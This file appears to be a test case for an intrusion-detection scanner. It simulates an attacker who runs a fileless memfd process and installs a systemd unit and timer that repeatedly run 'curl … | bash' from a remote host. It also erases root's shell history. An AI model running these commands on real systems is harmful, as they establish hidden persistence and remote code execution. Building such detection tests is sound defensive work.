# id: C12
# mode: scan
# level: suspicious
# due: now
# network: world
# title: a program in memory, fetched anew by a unit and a timer
. "$here/intruder.sh"
word name
wait_for reaches_world >/dev/null
start python3 -c "
import os, socket
fd = os.memfd_create('$name', 0)
os.write(fd, open('/bin/sleep', 'rb').read())
peer = socket.create_connection(('$far', 443))
os.set_inheritable(peer.fileno(), True)
os.execve('/proc/self/fd/%d' % fd, ['$name', '100000'], {})"
wait_for sh -c "readlink /proc/$pid/exe | grep -q ^/memfd:"
said pid "$pid"
unit "$name" "/bin/bash -c 'curl -fsSL http://$far/$name | bash'"
printf '[Timer]\nOnCalendar=*:0/10\nUnit=%s.service\n[Install]\nWantedBy=timers.target\n' "$name" >"/etc/systemd/system/$name.timer"
ln -sf /dev/null /root/.bash_history
said path /root/.bash_history
said restarter path "/etc/systemd/system/$name.service"
